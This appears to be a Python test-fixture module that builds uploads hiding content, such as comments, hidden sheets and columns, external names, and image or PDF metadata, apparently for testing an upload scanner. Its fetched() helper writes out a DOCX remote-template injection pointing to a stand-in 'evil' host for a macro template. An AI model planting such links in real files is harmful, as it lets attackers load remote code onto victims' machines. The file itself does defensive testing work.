"""Papers that hide something, one kind after the other."""

import io
import struct

from openpyxl import Workbook
from openpyxl.workbook.defined_name import DefinedName
from PIL import Image

from tests.web.uploads.papers import added, png, replaced, word, zipped

_DATA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
IDENTITY, MOBILE, CARD = "11010519491231002X", "13812345678", "6222021234567890128"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
_OFD = "http://www.ofdspec.org/2016"
_PAGE = "Doc_0/Pages/Page_0/Content.xml"


def in_body(markup: str) -> bytes:
    """A DOCX with some markup at the end of its first paragraph."""
    end = f"{markup}</w:p>".encode()
    return replaced(word(), "word/document.xml", lambda xml: xml.replace(b"</w:p>", end, 1))


def run(said: str, props: str = "") -> str:
    return f"<w:r><w:rPr>{props}</w:rPr><w:t>{said}</w:t></w:r>"


def commented(said: str = "内部意见") -> bytes:
    made = (
        '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f'<w:comment w:id="0"><w:p><w:r><w:t>{said}</w:t></w:r></w:p></w:comment></w:comments>'
    )
    return added(word(), "word/comments.xml", made.encode())


def fetched() -> bytes:
    """A DOCX that reads its template from elsewhere."""
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_DATA}attachedTemplate" Target="http://evil/x.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return added(word(), "word/_rels/settings.xml.rels", links.encode())


def unseen_column(made: Workbook) -> None:
    made.active.column_dimensions["B"].hidden = True


def deep_sheet(made: Workbook) -> None:
    made.create_sheet("底稿").sheet_state = "veryHidden"


def outside_name(made: Workbook) -> None:
    made.defined_names["旧表"] = DefinedName("旧表", attr_text="[1]Sheet1!$A$1")


def odt(body: str, meta: str = "") -> bytes:
    spaces = f'xmlns:office="{_OFFICE}" xmlns:text="{_TEXT}" xmlns:dc="dc" xmlns:meta="meta"'
    return zipped({
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": f"<office:content {spaces}>{body}</office:content>".encode(),
        "meta.xml": f"<office:document-meta {spaces}>{meta}</office:document-meta>".encode(),
    })  # fmt: skip


def ofd(*lines: str, author: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """An OFD of one page; each line in pieces, as real ones are."""
    said = "".join(
        f'<ofd:TextObject Boundary="{20 + 5 * place} {30 + 10 * row} 5 5"><ofd:TextCode>{char}'
        "</ofd:TextCode></ofd:TextObject>"
        for row, line in enumerate(lines) for place, char in enumerate(line)
    )  # fmt: skip
    info = f"<ofd:DocInfo><ofd:Author>{author}</ofd:Author></ofd:DocInfo>"
    return zipped({
        "OFD.xml": f'<ofd:OFD xmlns:ofd="{_OFD}">{info}</ofd:OFD>'.encode(),
        _PAGE: f'<ofd:Page xmlns:ofd="{_OFD}">{said}</ofd:Page>'.encode(),
    } | (more or {}))  # fmt: skip


def jpeg(*, placed: bool = False, turn: int = 0, artist: str = "", words: str = "") -> bytes:
    """A photograph, perhaps with where it was taken and by whom."""
    picture = Image.new("RGB", (60, 40), "white")
    exif = Image.Exif()
    if placed:
        exif.get_ifd(0x8825).update({1: "N", 2: (38.0, 54.0, 0.0)})
    if turn:
        exif[0x0112] = turn
    if artist:
        exif[0x013B] = artist
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif, comment=words.encode() if words else None)
    return out.getvalue()


def png_saying(said: str) -> bytes:
    """A picture with a remark."""
    body = b"Comment\0" + said.encode()
    chunk = struct.pack(">I", len(body)) + b"tEXt" + body + b"\0\0\0\0"
    made = png(2, 2)
    at = made.find(b"IDAT") - 4
    return made[:at] + chunk + made[at:]


def scan(said: str) -> bytes:
    """A PDF of one picture with large words in it, as a scanner makes it."""
    from PIL import ImageDraw, ImageFont

    picture = Image.new("RGB", (1240, 400), "white")
    font = ImageFont.truetype("DejaVuSans.ttf", 48)
    ImageDraw.Draw(picture).text((60, 120), said, fill="black", font=font)
    out = io.BytesIO()
    picture.save(out, "PDF", resolution=150)
    return out.getvalue()
